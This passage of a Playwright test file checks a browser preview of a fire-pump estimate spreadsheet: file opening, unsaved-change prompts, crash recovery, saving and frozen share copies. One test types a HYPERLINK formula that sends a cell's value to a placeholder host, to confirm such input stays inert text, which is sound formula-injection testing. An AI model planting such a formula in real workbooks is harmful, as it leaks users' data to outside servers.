  test("an edit made while a file is read off the page is asked about again: Cancel keeps it, the file is not opened", async () => {
    await open(PUMP_SAMPLE);
    const margin = await valueCellOf("Required margin");
    // a file large enough to take a while in the reader (100,000 cells), so that the edit lands while it reads
    const file = path.join(RESULTS, "slow-to-read.xlsx");
    await writeFileBytes(file, await bigXlsx(5000, 20));
    dialogs.length = 0;
    answerDialogs((d) => d.dismiss()); // the workbook changed meanwhile: no, keep it
    await page.setInputFiles('[data-role="file-input"]', file);
    expect(await statusText()).toBe("Opening slow-to-read.xlsx…");
    await typeInto(margin, "13");
    await expect.poll(statusText, { timeout: 60_000 }).toBe("Did not open slow-to-read.xlsx: the workbook is as you left it.");
    expect(dialogs.map((d) => d.message)).toEqual([expect.stringMatching(/^The workbook changed while slow-to-read\.xlsx was being read\./)]);
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe(PUMP_SAMPLE);
    expect((await (await at(margin)).textContent())?.trim()).toBe("13.0");
  });

  test("of two opens, the later wins: a sample picked while a large file is read is what stays open", async () => {
    await open(PUMP_SAMPLE);
    const file = path.join(RESULTS, "overtaken.xlsx");
    await writeFileBytes(file, await bigXlsx(5000, 20));
    const reader = page.waitForEvent("worker");
    await page.setInputFiles('[data-role="file-input"]', file);
    const fileReader = await reader;
    const answered = fileReader.waitForEvent("close", { timeout: 60_000 }); // the page ends each reader once it has answered
    expect(await statusText()).toBe("Opening overtaken.xlsx…");
    await page.selectOption('[data-role="sample-picker"]', OFFICE_SAMPLE);
    await expect.poll(statusText, { timeout: 60_000 }).toBe(`Opened ${OFFICE_SAMPLE}.`);
    // the large file's answer comes after and is dropped
    await answered;
    await settle();
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe(OFFICE_SAMPLE);
    expect(await statusText()).toBe(`Opened ${OFFICE_SAMPLE}.`);
  });

  test("a file whose names Excel takes and the engine would read as cells (Flow1, Pump1) opens and computes", async () => {
    await open(OFFICE_SAMPLE);
    const file = await writeFile("names-like-cells.xlsx", (ws, wb) => {
      ws.getCell("B1").value = 1250;
      ws.getCell("B2").value = 65;
      ws.getCell("B3").value = { formula: "Flow1*2", result: 2500 } as ExcelJS.CellValue;
      ws.getCell("B4").value = { formula: "Pump1+1", result: 66 } as ExcelJS.CellValue;
      wb.definedNames.add("Estimate!$B$1", "Flow1");
      wb.definedNames.add("Estimate!$B$2", "Pump1");
    });
    await page.setInputFiles('[data-role="file-input"]', file);
    await page.waitForFunction(() => document.querySelector('[data-role="file-name"]')?.textContent === "names-like-cells.xlsx");
    expect((await (await at("B3")).textContent())?.trim()).toBe("2500"); // 1250 × 2 (hand arithmetic)
    expect((await (await at("B4")).textContent())?.trim()).toBe("66"); // 65 + 1 (hand arithmetic)
    await (await at("B3")).click();
    expect(await page.inputValue('[data-role="formula-bar"]')).toBe("=Flow1*2");
    await typeInto("B1", "1000");
    expect((await (await at("B3")).textContent())?.trim()).toBe("2000"); // 1000 × 2 (hand arithmetic)
  });
  test("choosing another sample with unsaved changes asks first: Cancel keeps everything, OK opens it", async () => {
    await open(PUMP_SAMPLE);
    const margin = await valueCellOf("Required margin");
    await typeInto(margin, "12");
    expect(await page.locator('[data-role="unsaved-mark"]').isVisible()).toBe(true);
    const asked = dialogs.length;
    answerDialogs((d) => d.dismiss());
    await page.selectOption('[data-role="sample-picker"]', OFFICE_SAMPLE);
    await expect.poll(() => dialogs.length).toBe(asked + 1);
    expect(dialogs[asked].type).toBe("confirm");
    expect(dialogs[asked].message).toMatch(/^Open the sample ".*"\?\n\nThe changes to tinker-row-manufacturing-pump-needed\.xlsx that are not saved will be lost\./);
    expect(await page.inputValue('[data-role="sample-picker"]')).toBe(PUMP_SAMPLE);
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe(PUMP_SAMPLE);
    expect((await (await at(margin)).textContent())?.trim()).toBe("12.0");

    answerDialogs((d) => d.accept());
    await page.selectOption('[data-role="sample-picker"]', OFFICE_SAMPLE);
    await page.waitForFunction((name) => document.querySelector('[data-role="file-name"]')?.textContent === name, OFFICE_SAMPLE);
    await settle();
    expect(await verdict()).toMatch(/^No pump needed/);
    expect(await page.locator('[data-role="unsaved-mark"]').isVisible()).toBe(false);
    // nothing unsaved: nothing to ask
    const before = dialogs.length;
    await page.selectOption('[data-role="sample-picker"]', PUMP_SAMPLE);
    await page.waitForFunction((name) => document.querySelector('[data-role="file-name"]')?.textContent === name, PUMP_SAMPLE);
    expect(dialogs.length).toBe(before);
  });

  test("opening a file with unsaved changes asks first", async () => {
    const file = await writeFile("a-colleague.xlsx", (ws) => {
      ws.getCell("A1").value = "From a colleague";
    });
    await open(PUMP_SAMPLE);
    const margin = await valueCellOf("Required margin");
    await typeInto(margin, "12");
    const asked = dialogs.length;
    answerDialogs((d) => d.dismiss());
    await page.setInputFiles('[data-role="file-input"]', file);
    await expect.poll(() => dialogs.length).toBe(asked + 1);
    expect(dialogs[asked]).toMatchObject({ type: "confirm", message: expect.stringMatching(/^Open a-colleague\.xlsx\?\n\nThe changes to .* will be lost/) });
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe(PUMP_SAMPLE);
    expect((await (await at(margin)).textContent())?.trim()).toBe("12.0");
    answerDialogs((d) => d.accept());
    await page.setInputFiles('[data-role="file-input"]', file);
    await page.waitForFunction(() => document.querySelector('[data-role="file-name"]')?.textContent === "a-colleague.xlsx");
    expect((await (await at("A1")).textContent())?.trim()).toBe("From a colleague");
    // the sample menu names what the grid shows: the file, not the sample opened before it
    expect(await pickerShows()).toBe("Your file: a-colleague.xlsx");
    await page.selectOption('[data-role="sample-picker"]', OFFICE_SAMPLE);
    await page.waitForFunction((name) => document.querySelector('[data-role="file-name"]')?.textContent === name, OFFICE_SAMPLE);
    expect(await pickerShows()).toBe("Office building, light hazard: no pump needed (US)");
    expect(await page.locator('[data-role="sample-picker"] option[data-role="own-file"]').count()).toBe(0);
  });

  test("closing the page with unsaved changes asks first", async () => {
    const other = await context.newPage();
    const seen: string[] = [];
    other.on("dialog", async (d) => {
      seen.push(d.type());
      await d.dismiss(); // stay on the page
    });
    await other.goto(`${base}preview/?sample=${encodeURIComponent(OFFICE_SAMPLE)}`);
    await other.waitForSelector('body[data-ready="1"]', { timeout: 60_000 });
    if (await other.locator('[data-role="restore-offer"]').isVisible()) await other.click('[data-role="restore-decline"]');
    await kept(other);
    // a change typed as a user types it (the browser asks only on a page the user has used)
    await other.locator('[data-role="grid"] td[data-address="B13"]').click();
    await other.keyboard.type("71");
    await other.keyboard.press("Enter");
    await other.close({ runBeforeUnload: true });
    await expect.poll(() => seen).toEqual(["beforeunload"]);
    expect(other.isClosed()).toBe(false);
    await kept(other);
    other.removeAllListeners("dialog");
    other.on("dialog", (d) => d.accept());
    await other.close({ runBeforeUnload: true });
    await expect.poll(() => other.isClosed()).toBe(true);
  });

  test("after each edit the workbook is kept in the browser, and offered back after a reload: Restore brings it back", async () => {
    await open(PUMP_SAMPLE);
    const margin = await valueCellOf("Required margin");
    const sampleMargin = (await (await at(margin)).textContent())?.trim();
    await typeInto(margin, "12");
    await kept();
    const asked = dialogs.length;
    await page.reload(); // the browser asks whether to leave; the user leaves
    await page.waitForSelector('body[data-ready="1"]', { timeout: 60_000 });
    await settle();
    expect(dialogs[asked]?.type).toBe("beforeunload");
    const offer = page.locator('[data-role="restore-offer"]');
    expect(await offer.isVisible()).toBe(true);
    expect(await offer.textContent()).toContain(`Changes to ${PUMP_SAMPLE} that were not saved`);
    expect((await (await at(margin)).textContent())?.trim()).toBe(sampleMargin);
    await page.screenshot({ path: `${RESULTS}/preview-restore-offer.png` });
    await page.click('[data-role="restore-accept"]');
    await settle();
    expect(await offer.isVisible()).toBe(false);
    expect((await (await at(margin)).textContent())?.trim()).toBe("12.0");
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe(PUMP_SAMPLE);
    expect(await page.locator('[data-role="unsaved-mark"]').isVisible()).toBe(true);
  });

  test("after a crash too; Discard forgets the kept copy", async () => {
    const other = await context.newPage();
    await other.goto(`${base}preview/?sample=${encodeURIComponent(OFFICE_SAMPLE)}`);
    await other.waitForSelector('body[data-ready="1"]', { timeout: 60_000 });
    if (await other.locator('[data-role="restore-offer"]').isVisible()) await other.click('[data-role="restore-decline"]');
    await kept(other);
    await other.evaluate(() => {
      type Wb = { activeSheet: string; setTyped(s: string, a: string, t: string): void };
      const wb = (window as unknown as { headroomPreview: { workbook: Wb } }).headroomPreview.workbook;
      wb.setTyped(wb.activeSheet, "A1", "Typed before the crash");
    });
    await kept(other);
    // the page's renderer dies: no unload, no question
    const crashed = other.waitForEvent("crash");
    const cdp = await context.newCDPSession(other);
    void cdp.send("Page.crash").catch(() => undefined); // never answers: the page is gone
    await crashed;
    await other.close();

    await open(OFFICE_SAMPLE, { keptOffer: true });
    expect(await page.locator('[data-role="restore-offer"]').textContent()).toContain(`Changes to ${OFFICE_SAMPLE}`);
    await page.click('[data-role="restore-decline"]');
    expect(await page.locator('[data-role="restore-offer"]').isVisible()).toBe(false);
    expect((await (await at("A1")).textContent())?.trim()).not.toBe("Typed before the crash");
    await kept(); // the kept copy gone
    await open(OFFICE_SAMPLE, { keptOffer: true });
    expect(await page.locator('[data-role="restore-offer"]').isVisible()).toBe(false);
  });

  test("Save asks for the file's name, and a new estimate is not saved under the sample's name", async () => {
    await open(PUMP_SAMPLE);
    await page.click('[data-role="new-sheet"]');
    await page.waitForSelector('[data-role="sheet-tabs"] [data-sheet="Estimate 2"][aria-selected="true"]');
    await settle();
    // Cancel: nothing saved
    answerDialogs((d) => d.dismiss());
    await page.click('[data-role="save-file"]');
    await expect.poll(statusText).toBe("Not saved.");
    const asked = dialogs.length - 1;
    expect(dialogs[asked].type).toBe("prompt");
    // the estimate's site, not the sample's file
    expect(dialogs[asked].defaultValue).not.toBe(PUMP_SAMPLE);
    expect(dialogs[asked].defaultValue).toMatch(/^Demo .*\.xlsx$/);

    answerDialogs((d) => d.accept("Hollow Lane warehouse"));
    const [download] = await Promise.all([page.waitForEvent("download"), page.click('[data-role="save-file"]')]);
    expect(download.suggestedFilename()).toBe("Hollow Lane warehouse.xlsx");
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe("Hollow Lane warehouse.xlsx");
    expect(await pickerShows()).toBe("Your file: Hollow Lane warehouse.xlsx");
    expect(await page.locator('[data-role="unsaved-mark"]').isVisible()).toBe(false);
    // saved: the next Save suggests the name it was saved under, and another sample opens without a question
    answerDialogs((d) => d.dismiss());
    await page.click('[data-role="save-file"]');
    await expect.poll(() => dialogs.at(-1)?.defaultValue).toBe("Hollow Lane warehouse.xlsx");
    const before = dialogs.length;
    await page.selectOption('[data-role="sample-picker"]', OFFICE_SAMPLE);
    await page.waitForFunction((name) => document.querySelector('[data-role="file-name"]')?.textContent === name, OFFICE_SAMPLE);
    expect(dialogs.length).toBe(before);
  });
});

describe("the status line", () => {
  test("\"No summary yet\" goes once the inputs are fixed, and never stays red over a workbook that is fine", async () => {
    await open(PUMP_SAMPLE);
    const status = page.locator('[data-role="preview-status"]');
    await setNamed(page, "Required_Margin", "ten");
    await page.click('.bar [data-role="print-summary"]');
    await expect.poll(() => status.textContent()).toBe("No summary yet: fix the inputs the pane lists first, then try again.");
    expect(await status.getAttribute("class")).toMatch(/is-error/);
    // another input changed, the margin still text: the refusal stands
    await setNamed(page, "Suction_Minimum", "20");
    await settle();
    expect(await status.getAttribute("class")).toMatch(/is-error/);
    await setNamed(page, "Required_Margin", "10");
    await expect.poll(() => status.getAttribute("class")).not.toMatch(/is-error/);
    expect(await status.textContent()).toBe("");
  });
});

describe("the pane's actions on the preview's workbook", () => {
  test("New estimate sheet (SI) adds a sheet that becomes active and takes the named cells over", async () => {
    await open(OFFICE_SAMPLE);
    await page.selectOption('[data-role="units"]', "SI");
    await page.click('[data-role="new-sheet"]');
    await page.waitForSelector('[data-role="sheet-tabs"] [data-sheet="Estimate 2"][aria-selected="true"]');
    await settle();
    expect(await verdict()).toMatch(/bar/);
    expect((await (await at("B9")).textContent())?.trim()).toBe("SI");
  });

  test("one Ctrl+Z takes a new estimate sheet back, names and all; Ctrl+Y brings it again", async () => {
    await open(OFFICE_SAMPLE);
    const before = await verdict();
    await page.selectOption('[data-role="units"]', "SI");
    await page.click('[data-role="new-sheet"]');
    await page.waitForSelector('[data-role="sheet-tabs"] [data-sheet="Estimate 2"][aria-selected="true"]');
    await settle();
    expect(await verdict()).toMatch(/bar/);
    await (await at("A1")).click();
    await page.keyboard.press("Control+z");
    await settle();
    await expect(page.locator('[data-role="sheet-tabs"] [data-sheet="Estimate 2"]').count()).resolves.toBe(0);
    expect(await page.getAttribute('[data-role="sheet-tabs"] [data-sheet="Estimate"]', "aria-selected")).toBe("true");
    expect(await verdict()).toBe(before);
    await page.keyboard.press("Control+y");
    await settle();
    expect(await page.getAttribute('[data-role="sheet-tabs"] [data-sheet="Estimate 2"]', "aria-selected")).toBe("true");
    expect(await verdict()).toMatch(/bar/);
  });

  test("Share copy adds a values-only sheet, stamped, and refuses while a cell shows an error", async () => {
    await open(OFFICE_SAMPLE);
    await page.click('[data-role="share-copy"]');
    await page.waitForSelector('[data-role="sheet-tabs"] [data-sheet^="Estimate values "][aria-selected="true"]');
    expect((await (await at("A1")).textContent())?.trim()).toMatch(/^Share copy of Estimate, \d{4}-\d\d-\d\d: values frozen/);
    const formulas = await page.evaluate(() => {
      type View = { content: unknown };
      const w = window as unknown as { headroomPreview: { workbook: { activeSheet: string; cells(s: string): View[] } } };
      const wb = w.headroomPreview.workbook;
      return wb.cells(wb.activeSheet).filter((c) => typeof c.content === "string" && c.content.startsWith("=")).length;
    });
    expect(formulas).toBe(0);

    await open(OFFICE_SAMPLE);
    await typeInto(await valueCellOf("Static pressure (psi)"), "abc");
    const tabs = await page.locator('[data-role="sheet-tabs"] [data-sheet]').count();
    await page.click('[data-role="share-copy"]');
    await expect.poll(async () => page.locator('[data-role="pane-host"] [data-role="status"]').textContent()).toMatch(/No share copy made: B\d+ shows #VALUE!/);
    expect(await page.locator('[data-role="sheet-tabs"] [data-sheet]').count()).toBe(tabs);
  });
});

describe("input lands where the user typed it", () => {
  /** A new US estimate sheet from the pane, active and settled. */
  async function newSheet(): Promise<void> {
    await open(OFFICE_SAMPLE);
    await page.selectOption('[data-role="units"]', "US");
    await page.click('[data-role="new-sheet"]');
    await page.waitForSelector('[data-role="sheet-tabs"] [data-sheet="Estimate 2"][aria-selected="true"]');
    await settle();
  }

  /** Click the middle of a cell with the mouse, as a user does (whatever is drawn there takes the click). */
  async function clickAt(address: string): Promise<void> {
    const td = await at(address);
    await td.scrollIntoViewIfNeeded();
    const box = (await td.boundingBox())!;
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
  }

  const content = (address: string) =>
    page.evaluate((address) => {
      const wb = (window as unknown as { headroomPreview: { workbook: { activeSheet: string; content(s: string, a: string): unknown } } }).headroomPreview.workbook;
      return wb.content(wb.activeSheet, address);
    }, address);

  test("a click selects the empty cell under the pointer, not the label whose text runs over it", async () => {
    await newSheet();
    const direct = await valueCellOf("Flow measured directly (gpm)");
    const label = `A${direct.slice(1)}`;
    expect(await content(direct)).toBeNull();
    await clickAt(direct);
    expect(await page.locator('[data-role="name-box"]').inputValue()).toBe(direct);
    await page.keyboard.type("1250");
    await page.keyboard.press("Enter");
    await settle();
    expect(await content(direct)).toBe(1250);
    expect(await content(label)).toBe("Flow measured directly (gpm)");
    // the estimate now takes the flow typed, not the demo's pitot reading
    expect(await page.evaluate(() => {
      type Wb = { nameTarget(n: string): { sheet: string; address: string } | null; value(s: string, a: string): unknown };
      const wb = (window as unknown as { headroomPreview: { workbook: Wb } }).headroomPreview.workbook;
      const t = wb.nameTarget("Supply_TestFlow")!;
      return wb.value(t.sheet, t.address);
    })).toBe(1250);
  });

  test("an emptied cell of the pipe-run table takes the click and the typing, not the cell before it", async () => {
    await newSheet();
    const row = (await labelAddress("Riser with its valves")).slice(1);
    const material = `D${row}`;
    const fittings = `E${row}`;
    const before = await content(material);
    expect(typeof before).toBe("string");
    await clickAt(fittings);
    await page.keyboard.press("Delete");
    await settle();
    expect(await content(fittings)).toBeNull();
    await clickAt(fittings);
    expect(await page.locator('[data-role="name-box"]').inputValue()).toBe(fittings);
    await page.keyboard.type("GV");
    await page.keyboard.press("Enter");
    await settle();
    expect(await content(fittings)).toBe("GV");
    expect(await content(material)).toBe(before);
  });

  test("text typed behind an apostrophe stays text, \"=\" and all, and the saved share copy holds it as text: no formula", async () => {
    await open(OFFICE_SAMPLE);
    const link = '=HYPERLINK("http://example.invalid/?d="&B19,"x")';
    await clickAt("H5");
    await page.keyboard.type(`'${link}`);
    await page.keyboard.press("Enter");
    await settle();
    expect((await (await at("H5")).textContent())?.trim()).toBe(link);
    await clickAt("H6");
    await page.keyboard.type("'=1+1");
    await page.keyboard.press("Enter");
    await settle();
    expect((await (await at("H6")).textContent())?.trim()).toBe("=1+1");
    const [download] = await Promise.all([page.waitForEvent("download"), page.click('[data-role="save-share-copy"]')]);
    const saved = path.join(RESULTS, `text-${download.suggestedFilename()}`);
    await download.saveAs(saved);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await readFile(saved)) as unknown as ArrayBuffer);
    let formulas = 0;
    const texts: string[] = [];
    wb.worksheets[0].eachRow((row) =>
      row.eachCell((c) => {
        if (c.formula) formulas++;
        if (typeof c.value === "string" && c.value.startsWith("=")) texts.push(c.value);
      }),
    );
    expect(formulas).toBe(0);
    expect(texts.sort()).toEqual([link, "=1+1"].sort());
  });

  test("a new sheet's demo values are marked until typed over, and Save share copy refuses while any remains, naming them", async () => {
    await newSheet();
    const demo = async () => Object.keys(await scan('[data-demo="true"]'));
    expect((await demo()).length).toBeGreaterThan(30);
    const staticCell = await valueCellOf("Static pressure (psi)");
    expect(await (await at(staticCell)).getAttribute("data-demo")).toBe("true");
    // it looks different from an input typed by the user
    const look = async (address: string) => (await at(address)).evaluate((td) => getComputedStyle(td).fontStyle + " " + getComputedStyle(td).color);
    const demoLook = await look(staticCell);
    await page.screenshot({ path: `${RESULTS}/preview-new-sheet.png` });
    await clickAt(staticCell);
    await page.keyboard.type("70");
    await page.keyboard.press("Enter");
    await settle();
    expect(await (await at(staticCell)).getAttribute("data-demo")).toBeNull();
    expect(await look(staticCell)).not.toBe(demoLook);
    const first = (await demo())[0];
    let downloads = 0;
    const count = () => downloads++;
    page.on("download", count);
    await page.click('[data-role="save-share-copy"]');
    const status = page.locator('[data-role="preview-status"]');
    await expect.poll(() => status.textContent()).toMatch(/^No share copy made: .* still hold the demo values of a new estimate sheet/);
    expect(await status.textContent()).toContain(`${first}`);
    expect(await status.getAttribute("class")).toMatch(/is-error/);
    page.off("download", count);
    expect(downloads).toBe(0);
    // typed over, one by one: red while any demo value remains, then the refusal goes
    const left = await demo();
    const retype = (addresses: string[]) =>
      page.evaluate((addresses) => {
        type Wb = { activeSheet: string; content(s: string, a: string): unknown; setTyped(s: string, a: string, t: string): void };
        const wb = (window as unknown as { headroomPreview: { workbook: Wb } }).headroomPreview.workbook;
        for (const a of addresses) wb.setTyped(wb.activeSheet, a, String(wb.content(wb.activeSheet, a)));
      }, addresses);
    await retype(left.slice(0, -1));
    await settle();
    expect(await status.getAttribute("class")).toMatch(/is-error/);
    expect(await status.textContent()).toContain(left.at(-1)!);
    await retype(left.slice(-1));
    await settle();
    await expect.poll(() => status.getAttribute("class")).not.toMatch(/is-error/);
    expect(await status.textContent()).toBe("");
    // a sample's own sheet carries no marks
    await page.click('[data-role="sheet-tabs"] [data-sheet="Estimate"]');
    expect(await demo()).toEqual([]);
  });

  test("a share copy looks frozen: no shaded inputs, and a banner says its cells are frozen values", async () => {
    await open(OFFICE_SAMPLE);
    const banner = page.locator('[data-role="frozen-banner"]');
    expect(await banner.isVisible()).toBe(false);
    await page.click('[data-role="share-copy"]');
    await page.waitForSelector('[data-role="sheet-tabs"] [data-sheet^="Estimate values "][aria-selected="true"]');
    expect(await banner.isVisible()).toBe(true);
    expect(await banner.textContent()).toMatch(/frozen values/);
    // neither shaded as inputs nor marked as calculated: every cell is a frozen value, and says so when selected
    expect(await scan(".role-input, .role-computed")).toEqual({});
    expect(Object.values(await scan("td")).filter((text) => /overwrite the demo values/.test(text))).toEqual([]);
    await (await at("B15")).click();
    expect(await page.locator('[data-role="cell-message"]').textContent()).toBe("A frozen value of this share copy: change the estimate sheet and make a new copy.");
    await page.screenshot({ path: `${RESULTS}/preview-share-copy.png` });
    await page.click('[data-role="sheet-tabs"] [data-sheet="Estimate"]');
    expect(await banner.isVisible()).toBe(false);
    // the saved share copy, opened again, says so too
    const [download] = await Promise.all([page.waitForEvent("download"), page.click('[data-role="save-share-copy"]')]);
    const saved = path.join(RESULTS, `frozen-${download.suggestedFilename()}`);
    await download.saveAs(saved);
    answerDialogs((d) => d.accept()); // the share copy's sheet is an unsaved change: yes, open the file instead
    await page.setInputFiles('[data-role="file-input"]', saved);
    await page.waitForFunction((name) => document.querySelector('[data-role="file-name"]')?.textContent === name, path.basename(saved));
    await settle();
    expect(await banner.isVisible()).toBe(true);
    expect(await scan(".role-input")).toEqual({});
  });
});

describe("what the page loads", () => {
  test("nothing but this server: no remote request, no page error, no console error", () => {
    expect(requests.length).toBeGreaterThan(5);
    expect(requests.filter((u) => !u.startsWith(base) && !u.startsWith("blob:") && !u.startsWith("data:"))).toEqual([]);
    expect(problems).toEqual([]);
  });

  test("HyperFormula and ExcelJS are in the preview bundle only, never in the add-in's", async () => {
    // strings only these libraries carry (positive controls below show they survive minification)
    const HF = ["buildFromSheets", "LicenseCapabilityMissingError"];
    const XL = ["xl/workbook.xml", "sharedStrings"];
    for (const file of ["dist/functions.js", "dist/taskpane.js"]) {
      const js = await readFile(file, "utf8");
      for (const marker of [...HF, ...XL]) expect(js.includes(marker), `${file} holds ${marker}`).toBe(false);
    }
    const preview = await readFile("dist/preview/preview.js", "utf8");
    for (const marker of HF) expect(preview.includes(marker), `preview.js lacks ${marker}`).toBe(true);
    expect(XL.some((m) => preview.includes(m)), "ExcelJS must load on use, not with the page").toBe(false);
    const { readdir } = await import("node:fs/promises");
    const chunks = (await readdir("dist/preview")).filter((f) => f.endsWith(".js") && f !== "preview.js");
    const chunkText = await Promise.all(chunks.map((f) => readFile(path.join("dist/preview", f), "utf8")));
    expect(chunkText.some((t) => XL.every((m) => t.includes(m)))).toBe(true);
  });
});
